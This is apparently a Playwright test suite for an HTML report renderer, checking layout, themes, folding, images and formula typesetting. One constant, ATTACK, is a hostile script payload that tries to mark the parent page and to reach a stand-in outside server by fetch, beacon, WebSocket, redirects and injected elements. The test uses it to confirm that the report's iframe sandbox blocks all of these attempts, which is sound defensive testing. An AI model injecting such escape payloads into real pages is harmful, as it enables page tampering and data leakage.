"""A report opened from disk, without network: what it shows, and what its outputs cannot do."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from rdit_ext.documents.report import fill_report, template
from rdit_ext.protocol import Display, Error, ExportedResult, Frame, Result, Stdout

if TYPE_CHECKING:
    from playwright.sync_api import Browser

SCRIPT = """# A report
print("a" * 3)
table

def f():
    return 1 / 0

figure
attack
f()
"""
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
# How wide an image is, once it is there.
WIDE = "image => image.decode().then(() => image.naturalWidth)"
# All ways out that a frame has: each would be a request, or a mark on the report itself.
ATTACK = """<p id="inner">begun</p><script>
const to = "{address}";
const tries = [
  () => parent.document.body.setAttribute("data-pwned", "1"),
  () => {{ top.location = to + "top"; }},
  () => fetch(to + "fetch").catch(() => {{}}),
  () => navigator.sendBeacon(to + "beacon"),
  () => {{ new Image().src = to + "image"; }},
  () => open(to + "open"),
  () => new WebSocket(to.replace("http", "ws") + "socket"),
  ...["script", "iframe", "audio"].map(name => () =>
    document.body.append(Object.assign(document.createElement(name), {{src: to + name}}))),
];
for (const attempt of tries) try {{ attempt(); }} catch {{}}
document.getElementById("inner").textContent = "ended";
addEventListener("click", () => {{ location = to + "self"; }});
</script>"""


def result(first: int, last: int, *output: Any, stale: str = "") -> ExportedResult:
    return ExportedResult(line_start=first, line_end=last, output=list(output), stale=stale)


def bundle(**data: str) -> Display:
    return Display(
        text="plain\n", data={k.replace("_", "/"): v for k, v in data.items()}, metadata={}
    )


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """An address that nothing may ask for, and what was asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None: ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/", asked
        server.shutdown()


def test_a_report_from_disk(
    browser: Browser, tmp_path: Path, outside: tuple[str, list[str]]
) -> None:
    address, asked = outside
    html = f'<table><tr><td>cell</td></tr></table><img src="{address}html">'
    results = [
        result(2, 2, Stdout(text="\x1b[31maaa\x1b[0m\n"), stale="`x` was bound again on line 1"),
        result(3, 3, Result(text="t\n", data={"text/html": html}, metadata={})),
        result(8, 8, bundle(image_png=PIXEL)),
        result(9, 9, bundle(text_html=ATTACK.format(address=address))),
        result(
            10,
            10,
            Error(
                text='Traceback (most recent call last):\n  File "s.py", line 10, in <module>\n'
                '    f()\n  File "s.py", line 6, in f\n    return 1 / 0\nZeroDivisionError: no\n',
                name="ZeroDivisionError",
                message="no",
                frames=[
                    Frame(path="s.py", line=10, name="<module>", source="f()"),
                    Frame(path="s.py", line=6, name="f", source="    return 1 / 0"),
                ],
            ),
        ),
    ]
    file = tmp_path / "report.html"
    file.write_text(fill_report(template(), SCRIPT, results, "s"), "utf-8")
    context = browser.new_context(viewport={"width": 1300, "height": 800}, color_scheme="light")
    page = context.new_page()
    faults: list[str] = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(file.as_uri())
    expect(page.locator("html[data-ready]")).to_have_count(1)
    assert page.title() == "s"

    # Each beside its statement, in colours.
    for line in (2, 3, 8, 10):
        # At once: a frame above may become higher meanwhile.
        right, down = page.evaluate(
            """line => {
                const of = selector => document.querySelector(selector).getBoundingClientRect();
                const code = of(`#L${line}`);
                const box = of(`.rdit-result[data-line-start="${line}"]`);
                return [box.x - code.x, box.y - code.y];
            }""",
            line,
        )
        assert abs(down) < 30
        assert right > 400
    expect(page.locator("#L5 .tok-keyword")).to_have_text("def")
    expect(page.locator(".rdit-report-stale")).to_contain_text("`x` was bound again on line 1")
    expect(page.locator(".rdit-rich td")).to_have_text("cell")
    assert page.locator('[data-kind="image"] img').evaluate(WIDE) == 1
    expect(page.locator(".rdit-frame-link").last).to_contain_text("6")
    page.locator(".rdit-frame-link").last.click()
    expect(page.locator("#L6.rdit-report-target")).to_have_count(1)

    # Its scripts run in the frame, and come nowhere else.
    frame = page.frame_locator("iframe.rdit-sandbox")
    expect(frame.locator("#inner")).to_have_text("ended")
    frame.locator("#inner").click()
    # Its own address is refused, which ends the frame.
    expect(frame.locator("#inner")).to_have_count(0)
    assert page.locator("body[data-pwned]").count() == 0
    assert page.url == file.as_uri()
    assert len(context.pages) == 1
    assert asked == []

    # Fold, and unfold
    error = page.locator('.rdit-result[data-line-start="10"]')
    page.get_by_role("button", name="Fold results").click()
    expect(error.locator(".rdit-gist")).to_have_text("ZeroDivisionError: no")
    page.get_by_role("button", name="Unfold results").click()
    expect(error.locator(".rdit-error-name")).to_have_text("ZeroDivisionError")

    # Dark by the switch, and by the system
    background = "getComputedStyle(document.body).backgroundColor"
    light = page.evaluate(background)
    page.locator("[data-control=theme]").click()
    dark = page.evaluate(background)
    assert dark != light
    page.locator("[data-control=theme]").click()
    assert page.evaluate(background) == light
    page.emulate_media(media="print", color_scheme="dark")
    assert page.evaluate(background) == "rgb(255, 255, 255)"
    page.emulate_media(media="screen", color_scheme="light")

    # Below each other in a narrow window
    page.set_viewport_size({"width": 420, "height": 800})
    code, box = (
        page.locator("#L2").bounding_box(),
        page.locator(".rdit-result").first.bounding_box(),
    )
    assert code is not None
    assert box is not None
    assert box["y"] > code["y"] + 10
    assert page.evaluate("document.documentElement.scrollWidth") <= 420
    assert faults == []
    context.close()


def test_a_report_can_be_read_without_scripts(browser: Browser, tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    results = [result(2, 2, Stdout(text="aaa\n")), result(8, 8, bundle(image_png=PIXEL))]
    file.write_text(fill_report(template(), SCRIPT, results, "s", results_only=False), "utf-8")
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(file.as_uri())
    expect(page.locator("pre.rdit-report-code").nth(1)).to_have_text('print("a" * 3)')
    expect(page.locator("[data-type=stdout]")).to_have_text("aaa\n")
    expect(page.locator("img")).to_be_visible()
    context.close()


def test_a_report_has_its_pictures_and_says_which_it_has_not(
    browser: Browser, tmp_path: Path
) -> None:
    html = '<img src="a%20b.png"><img src="large.png?x=1"><img src="none.png">'
    results = [
        result(1, 1, bundle(text_html=html)),
        result(2, 2, bundle(text_markdown="![A picture](<a b.png>)")),
        result(3, 3, bundle(text_html='<img src="a b.png"><script>1</script>')),
        result(4, 4, bundle(text_html='<iframe title=">" src="page.html" width="9"></iframe>')),
        result(5, 5, bundle(text_html="<img alt='a > b' src='a%20b.png'><IMG srcset=a%20b.png>")),
        result(
            6, 6, bundle(text_html='<img src="a b.png" srcset="a%20b.png 2x"><script>1</script>')
        ),
    ]
    address = f"data:image/png;base64,{PIXEL}"
    files = {"a b.png": address, "large.png": "it is too large."}
    file = tmp_path / "pictures.html"
    script = "".join(f"{line}\n" for line in range(1, 7))
    file.write_text(fill_report(template(), script, results, files=files), "utf-8")
    page = browser.new_page()
    page.goto(file.as_uri())
    shown = page.locator(".rdit-result")
    loaded = "image => image.complete && image.naturalWidth"
    picture = shown.nth(0).locator("img")
    expect(picture).to_have_count(1)
    expect(picture).to_have_attribute("src", address)
    expect(shown.nth(0)).to_contain_text("large.png?x=1 is not in this report: it is too large.")
    expect(shown.nth(0)).to_contain_text("none.png is not in this report: no such file was found")
    expect(shown.nth(1).get_by_alt_text("A picture")).to_have_attribute("src", address)
    framed = shown.nth(2).frame_locator("iframe").locator("img")
    expect(framed).to_have_attribute("src", address)
    assert framed.evaluate(loaded) == picture.evaluate(loaded) == 1
    expect(shown.nth(3)).to_contain_text("page.html is not in this report")
    both = shown.nth(4).locator("img")
    expect(both).to_have_count(2)
    for image in both.all():
        expect(image).to_have_attribute("src", address)
    sharp = shown.nth(5).frame_locator("iframe").locator("img")
    expect(sharp).to_have_attribute("srcset", f"{address} 2x")
    page.close()


def test_a_report_typesets_its_formulas_without_fonts(browser: Browser, tmp_path: Path) -> None:
    results = [
        result(1, 1, bundle(text_markdown=r"The root $x_1 * x_2 * y$ and $$\frac{1}{2}$$")),
        result(2, 2, bundle(text_latex=r"$\displaystyle \sqrt{2}$", image_png=PIXEL)),
        result(3, 3, bundle(text_latex=r"$\nosuchcommand$")),
    ]
    file = tmp_path / "math.html"
    file.write_text(fill_report(template(), "1\n2\n3\n", results, "m"), "utf-8")
    page = browser.new_page()
    page.goto(file.as_uri())
    shown = page.locator(".rdit-result")
    expect(shown.nth(0).locator("math")).to_have_count(2)
    expect(shown.nth(0).locator("em")).to_have_count(0)
    expect(shown.nth(1).locator("math msqrt")).to_be_visible()
    expect(shown.nth(2)).to_contain_text("This cannot be typeset")
    assert page.locator(".katex-html").count() == 0
    page.close()
